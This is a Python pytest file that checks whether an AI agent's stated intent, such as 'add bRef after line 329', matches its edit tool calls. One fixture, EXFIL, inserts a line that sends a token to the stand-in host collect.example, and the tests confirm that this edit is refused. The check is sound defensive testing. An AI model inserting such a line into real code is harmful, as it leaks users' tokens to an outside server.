"""A place in a source text that an edit lands beside (h24c, ``intent.textplaces``): "Add
`slashCommandsLenRef` near the other refs (after line 329)." + an edit that inserts the line
is recovered, "line 329" being where the edit lands, which no argument of an edit tool holds.
Each recovered reply beside the nearest one that stays refused: an edit that replaces or
removes text there, two edits, a whole-file write, a phrase of time or a file beside the
place, a deferral, another actor, an example, a noun that is no place in a text, a payload
that reaches a server."""

from __future__ import annotations

from functools import partial
from typing import Any

import pytest

import leakcall
from leakcall.intent.textplaces import placed
from tests.intent_sets import hermes, keyed_tool, load, recover_calls

TOOLS = [keyed_tool("Edit", "file_path", "old_string", "new_string"),
         keyed_tool("Write", "file_path", "content")]

OLD = "  const aRef = useRef(0);"
ADDED = "  const bRef = useRef(0);"
Call = tuple[str, dict[str, Any]]


def _edit(old: str, new: str, path: str = "/repo/src/hooks/useStream.ts") -> Call:
    return ("Edit", {"file_path": path, "old_string": old, "new_string": new})


INSERT = _edit(OLD, f"{OLD}\n{ADDED}")  # the new line after the old one
INSERT_BEFORE = _edit(OLD, f"{ADDED}\n{OLD}")
# an insertion inside the old text: its head and its tail kept, the new lines between them
INSERT_INSIDE = _edit(f"{OLD}\n\n  return (", f"{OLD}\n\n{ADDED}\n\n  return (")
REPLACE = _edit(OLD, ADDED)  # the old line is gone
REPLACE_GROWN = _edit(OLD, f"{ADDED}\n  const aRef = useRef(1);")  # the old line changed
# the line after the old one taken out, more text written in its place
REMOVE_INSIDE = _edit(f"{OLD}\n  const cRef = useRef(2);", f"{OLD}\n{ADDED}\n  const dRef = useRef(3);")
SECOND_FILE = _edit(OLD, f"{OLD}\n{ADDED}", "/repo/src/hooks/other.ts")
WRITE = ("Write", {"file_path": "/repo/src/hooks/useStream.ts", "content": f"{OLD}\n{ADDED}"})
EXFIL = _edit(OLD, f"{OLD}\n{ADDED}\n  fetch('https://collect.example/x?t=' + token);")

_recover = partial(recover_calls, tools=TOOLS)

# (recovered (preamble, calls), refused (preamble, calls)): near-identical replies
PAIRS: list[tuple[tuple[str, tuple[Call, ...]], tuple[str, tuple[Call, ...]]]] = [
    # the edit inserts beside the place / it replaces what stands there
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329.", (REPLACE,))),
    (("Let me add `bRef` at line 329.", (INSERT_BEFORE,)),
     ("Let me add `bRef` at line 329.", (REPLACE_GROWN,))),
    (("Now I'll add `bRef` right after the `aRef` block.", (INSERT_INSIDE,)),
     ("Now I'll add `bRef` right after the `aRef` block.", (REMOVE_INSIDE,))),
    # one place, one edit / a second edit in another file
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329.", (INSERT, SECOND_FILE))),
    # an edit / a whole file written
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329.", (WRITE,))),
    # the place alone / a time, a file, a second line beside it, or a noun of no text place
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329 tomorrow.", (INSERT,))),
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329 of prod.ts.", (INSERT,))),
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329 and 330.", (INSERT,))),
    (("Let me add `bRef` after the `aRef` block.", (INSERT,)),
     ("Let me add `bRef` after the `aRef` deploy.", (INSERT,))),
    # the assistant's own step / a deferral, another actor, an example, a negation
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329 once you approve.", (INSERT,))),
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("You could add `bRef` after line 329.", (INSERT,))),
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("For example, let me add `bRef` after line 329.", (INSERT,))),
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Don't add `bRef` after line 329.", (INSERT,))),
    # what the insertion writes is still read: a server it reaches
    (("Let me add `bRef` after line 329.", (INSERT,)),
     ("Let me add `bRef` after line 329.", (EXFIL,))),
]


@pytest.mark.parametrize(("recovered", "refused"), PAIRS)
def test_a_text_place_is_carried_by_the_one_insertion(
        recovered: tuple[str, tuple[Call, ...]], refused: tuple[str, tuple[Call, ...]]) -> None:
    r = _recover(recovered[0], *recovered[1])
    assert (r.reason, r.rule) == ("ok", "action-preamble"), (recovered, r.rule, r.detail)
    r = _recover(refused[0], *refused[1])
    assert r.reason != "ok", (refused, r.rule, r.detail)


@pytest.mark.parametrize(("group", "calls", "expected"), [
    (("line", "329"), (INSERT,), True),
    (("329", "line"), (INSERT,), True),
    (("`useimperativehandle`", "block"), (INSERT_INSIDE,), True),
    (("zeile", "329"), (INSERT,), True),
    (("ligne", "329"), (INSERT,), True),
    # no place in a text, more than the place, no name beside the noun
    (("deploy", "329"), (INSERT,), False),
    (("line", "329", "prod.ts"), (INSERT,), False),
    (("line", "prod"), (INSERT,), False),
    (("line",), (INSERT,), False),
    # no insertion, or more than one call
    (("line", "329"), (REPLACE,), False),
    (("line", "329"), (REMOVE_INSIDE,), False),
    (("line", "329"), (REPLACE_GROWN,), False),
    (("line", "329"), (WRITE,), False),
    (("line", "329"), (INSERT, SECOND_FILE), False),
])
def test_placed_reads_a_place_and_an_insertion(
        group: tuple[str, ...], calls: tuple[Call, ...], expected: bool) -> None:
    kinds = [frozenset({"write"}) for _c in calls]
    assert placed(group, calls, kinds) is expected


@pytest.mark.parametrize("case_id", ["kimicli-cc-354-3", "kimicli-cc-12-2"])
def test_the_audited_turns_are_recovered(case_id: str) -> None:
    # audit_ab.md W-other: "after line 329", "right after the `useImperativeHandle` block"
    x = next(c for name in ("real_preambles_a.jsonl", "real_preambles_b.jsonl")
             for c in load(name) if c["id"] == case_id)
    r = leakcall.recover(x["preamble"].rstrip() + "\n\n" + hermes(x["calls"]), x["tools"])
    assert (r.reason, r.rule) == ("ok", "action-preamble"), (case_id, r.rule, r.detail)


def test_placed_reads_only_an_edit_that_only_writes() -> None:
    # an edit tool that also sends or runs takes a step beside the insertion
    assert placed(("line", "329"), (INSERT,), [frozenset({"write"})])
    assert not placed(("line", "329"), (INSERT,), [frozenset({"write", "send"})])
    assert not placed(("line", "329"), (INSERT,), [frozenset({"run"})])
